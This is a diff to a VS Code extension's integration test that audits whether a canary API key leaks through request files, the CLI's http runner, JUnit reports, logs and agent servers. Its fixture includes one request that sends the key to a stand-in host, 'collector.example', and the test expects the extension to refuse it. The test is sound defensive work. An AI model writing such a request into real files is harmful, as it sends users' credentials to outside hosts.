@@ -34,6 +34,25 @@ function filesUnder(dir: string, out: string[] = []): string[] {
   return out;
 }
 
+/** A request file that names the key three ways: a header, a query parameter (the label shows it), and a request to another host (refused). */
+const CANARY_HTTP = [
+  '### workspace',
+  'GET https://prod-api.ringg.ai/ca/api/v0/workspace',
+  'x-api-key: {{RINGG_API_KEY}}',
+  '',
+  '?? status == 200',
+  '?? js response.parsedBody.workspace_info.name == Sandbox Workspace',
+  '',
+  '### in the query',
+  'GET https://prod-api.ringg.ai/ca/api/v0/workspace?probe={{$processEnv RINGG_API_KEY}}',
+  'x-api-key: {{RINGG_API_KEY}}',
+  '',
+  '### elsewhere',
+  'GET https://collector.example/x?k={{RINGG_API_KEY}}',
+  'x-api-key: {{RINGG_API_KEY}}',
+  '',
+].join('\n');
+
 describe('canary audit: no key leaks anywhere the extension writes or shows', function () {
   this.timeout(300_000);
   const canary = randomUUID();
@@ -42,6 +61,9 @@ describe('canary audit: no key leaks anywhere the extension writes or shows', fu
   let leaked = '';
   let leakRotated = '';
   let api: RingKeysApi;
+  /** What "Save as .http" wrote: run by the CLI in the second test. */
+  let savedHttp = '';
+  const requestFile = () => vscode.Uri.joinPath(vscode.workspace.workspaceFolders![0].uri, 'canary-requests.http');
   const leakFiles = () => ({ ts: vscode.Uri.joinPath(vscode.workspace.workspaceFolders![0].uri, 'canary-leak.ts'),
     py: vscode.Uri.joinPath(vscode.workspace.workspaceFolders![0].uri, 'canary_leak.py') });
   /** What was shown along the way: [where, text]. Searched at the end. */
@@ -60,11 +82,12 @@ describe('canary audit: no key leaks anywhere the extension writes or shows', fu
     await removeAllKeysThroughUi();
     const file = vscode.Uri.joinPath(vscode.workspace.workspaceFolders![0].uri, 'canary-client.ts');
     await vscode.workspace.fs.delete(file).then(undefined, () => undefined);
+    await vscode.workspace.fs.delete(requestFile()).then(undefined, () => undefined);
     for (const f of Object.values(leakFiles())) { await vscode.workspace.fs.delete(f).then(undefined, () => undefined); }
     await sandbox.reset();
   });
 
-  it('drives add, verify, status bar menu, workspace info, request tester (incl. errors, history, cURL), scan, quick fix, rotate and a leaked key\'s check and rotation', async () => {
+  it('drives add, verify, status bar menu, workspace info, request tester (incl. errors, history, cURL, Save as .http, Copy as .http), request files (Send All, a server echoing the key), scan, quick fix, rotate and a leaked key\'s check and rotation', async () => {
     // add + verify
     const id = await addKeyThroughUi('Ringg AI', 'Canary', canary);
     assert.strictEqual(await vscode.commands.executeCommand(Commands.verifyKey, id), 'valid');
@@ -110,6 +133,45 @@ describe('canary audit: no key leaks anywhere the extension writes or shows', fu
     await waitFor('the cURL', async () => /RINGG_API_KEY/.test((await ui.texts('#curl', true)).join()));
     seen.push(['tester webview', await frameHtml('html')], ['tester state and history', JSON.stringify(api.tester())],
       ['clipboard after Copy as cURL', await vscode.env.clipboard.readText()]);
+    // "Copy as .http" on the newest history entry (the 401): the request file on the clipboard
+    await ui.click('#history .copy-http >> nth=0', true);
+    const copied = await waitFor('the request file on the clipboard', async () => {
+      const c = await vscode.env.clipboard.readText();
+      return /^x-api-key: \{\{RINGG_API_KEY\}\}$/m.test(c) && c;
+    });
+    assert.match(copied, /^GET https:\/\/prod-api\.ringg\.ai\/ca\/api\/v0\/workspace$/m);
+    await waitFor('the copied toast', async () => /as a request file/.test(await dialogText()));
+    seen.push(['clipboard after Copy as .http (history)', copied], ['toast after Copy as .http', await dialogText()]);
+    await vscode.commands.executeCommand('notifications.clearAll');   // a full notification list hides the rotation's question below
+    // "Save as .http": the request as a new request file (kept for the CLI run below, which runs it)
+    await ui.click('#save-http', true);
+    const saved = await waitFor('the saved request file', () => vscode.workspace.textDocuments.find(d => d.isUntitled && d.languageId === 'http' && /\/workspace/.test(d.getText())));
+    savedHttp = saved.getText();
+    seen.push(['Save as .http (the untitled request file)', savedHttp]);
+    await vscode.window.showTextDocument(saved);
+    await vscode.commands.executeCommand('workbench.action.revertAndCloseActiveEditor');
+    await vscode.commands.executeCommand('workbench.action.closeAllEditors');
+
+    // request files in the editor: Send All (a pass, the key in a query, a refusal), then again with a server that echoes the key
+    const reqFile = requestFile();
+    await vscode.workspace.fs.writeFile(reqFile, Buffer.from(CANARY_HTTP));
+    const reqDoc = await vscode.workspace.openTextDocument(reqFile);
+    await vscode.window.showTextDocument(reqDoc);
+    const sentAll = await vscode.commands.executeCommand<Array<{ state: string }>>(Commands.sendAllHttpRequests, reqFile);
+    assert.deepStrictEqual(sentAll.map(o => o.state), ['passed', 'passed', 'refused']);
+    await waitFor('the answer document', () => vscode.window.visibleTextEditors.some(e => e.document.uri.scheme === 'ring-keys-response'));
+    seen.push(['request file answer document', vscode.window.visibleTextEditors.find(e => e.document.uri.scheme === 'ring-keys-response')!.document.getText()]);
+    await sandbox.faults({ leak: 'name' });
+    const echoed = await vscode.commands.executeCommand<Array<{ state: string }>>(Commands.sendAllHttpRequests, reqFile);
+    await sandbox.faults({ leak: null });
+    assert.deepStrictEqual(echoed.map(o => o.state), ['failed', 'passed', 'refused'], 'the echoed name fails the assertion');
+    const leakDiags = await waitFor('the key-for-another-host diagnostic', () => {
+      const x = vscode.languages.getDiagnostics(reqFile).filter(v => v.code === 'keyForOtherHost');
+      return x.length > 0 && x;
+    });
+    seen.push(['request file answers (both sends)', api.httpFiles().join('\n')], ['request file diagnostics', JSON.stringify(leakDiags.map(x => x.message))],
+      ['notifications after the request files', await dialogText()]);
+    await vscode.commands.executeCommand('notifications.clearAll');
     await vscode.commands.executeCommand('workbench.action.closeAllEditors');
 
     // agent tools (vscode.lm): the catalogue, a read, the key pasted into an argument, a server that echoes the key
@@ -170,7 +232,7 @@ describe('canary audit: no key leaks anywhere the extension writes or shows', fu
     await vscode.commands.executeCommand('workbench.action.closeAllEditors');
   });
 
-  it('finds neither key anywhere but SecretStorage: log, notifications, webviews, state, settings, history, files, CLI', async () => {
+  it('finds neither key anywhere but SecretStorage: log, notifications, webviews, state, settings, history, files, CLI (incl. http run and its JUnit report)', async () => {
     assert.ok(rotated, 'the drive above rotated the key');
     assert.ok(leaked && leakRotated, 'the drive above rotated the leaked key');
     const haystacks: Array<[string, string]> = [...seen];
@@ -192,6 +254,24 @@ describe('canary audit: no key leaks anywhere the extension writes or shows', fu
       { encoding: 'utf8', env: { ...process.env, RINGG_API_KEY: rotated } });
     assert.strictEqual(v.status, 0, v.stderr);
     haystacks.push(['CLI verify', v.stdout + v.stderr]);
+    // the CLI: http run (the key from the environment) of the request file and of what "Save as .http" wrote, with a
+    // JUnit report; then again with a server that echoes the key into the answer the assertion reads
+    assert.match(savedHttp, /^x-api-key: \{\{RINGG_API_KEY\}\}$/m, 'Save as .http wrote the key as a variable');
+    const httpDir = fs.mkdtempSync(path.join(os.tmpdir(), 'ring-keys-canary-http-'));
+    fs.writeFileSync(path.join(httpDir, 'canary.http'), CANARY_HTTP);
+    fs.writeFileSync(path.join(httpDir, 'saved.http'), savedHttp);
+    for (const leak of [null, 'name'] as const) {
+      await sandbox.faults({ leak });
+      const junit = path.join(httpDir, `report-${leak ?? 'plain'}.xml`);
+      const h = spawnSync(process.execPath, [cli, 'http', 'run', httpDir, '--junit', junit, '--ringg-base-url', `${sandbox.origin}/ca/api/v0`],
+        { encoding: 'utf8', env: { ...process.env, RINGG_API_KEY: rotated } });
+      assert.strictEqual(h.status, 2, `http run: the request to another host is refused: ${h.stdout}${h.stderr}`);
+      assert.match(h.stdout, leak ? /FAIL workspace/ : /ok {3}workspace/);
+      assert.match(h.stdout, /saved\.http\n {2}ok {3}info /, 'the file "Save as .http" wrote ran and passed');
+      haystacks.push([`CLI http run${leak ? ' (the key echoed)' : ''}`, h.stdout + h.stderr], [`CLI http run JUnit${leak ? ' (the key echoed)' : ''}`, fs.readFileSync(junit, 'utf8')]);
+    }
+    await sandbox.faults({ leak: null });
+    fs.rmSync(httpDir, { recursive: true, force: true });
     // the MCP server (ring-keys mcp) with the key from the environment, driven by the SDK's client
     const transport = new StdioClientTransport({ command: process.execPath, args: [cli, 'mcp'], stderr: 'pipe',
       env: { PATH: process.env.PATH ?? '', RINGG_API_KEY: rotated, RINGKEYS_RINGG_BASE_URL: `${sandbox.origin}/ca/api/v0` } });
@@ -230,6 +310,11 @@ describe('canary audit: no key leaks anywhere the extension writes or shows', fu
     assert.ok(holding(/Sandbox Workspace/).some(w => /agent tool answers/.test(w)) && holding(/Sandbox Workspace/).some(w => /MCP server/.test(w)),
       'both agent servers answered (and were searched)');
 
+    assert.ok(holding(/\[http-files\] passed GET .*\/workspace/).some(w => /Ring Keys\.log$/.test(w)), 'the request files\' sends were logged');
+    assert.ok(holding(/HTTP 200[\s\S]*Sandbox Workspace/).some(w => /request file answer/.test(w)), 'the request file\'s answer was searched');
+    assert.ok(holding(/Team \[REDACTED\]/).some(w => /request file answers/.test(w)), 'the echoed key reached the editor\'s answer (redacted)');
+    assert.ok(holding(/<failure [^>]*Team \[REDACTED\]/).some(w => /JUnit \(the key echoed\)/.test(w)), 'the echoed key reached the JUnit report (redacted)');
+    assert.ok(holding(/probe=\[REDACTED\]/).some(w => /^CLI http run$/.test(w)), 'the key in a query reached the progress line (redacted)');
     assert.ok(holding(/RINGG_API_KEY = os\.environ\["RINGG_API_KEY"\]/).some(w => /canary_leak\.py$/.test(w)), 'the files the leak flow rewrote were searched');
     assert.ok(holding(/\[rotate-leak\] rotating the leaked Ringg key …/).some(w => /Ring Keys\.log$/.test(w)), 'the leak flow logged (masked)');
 
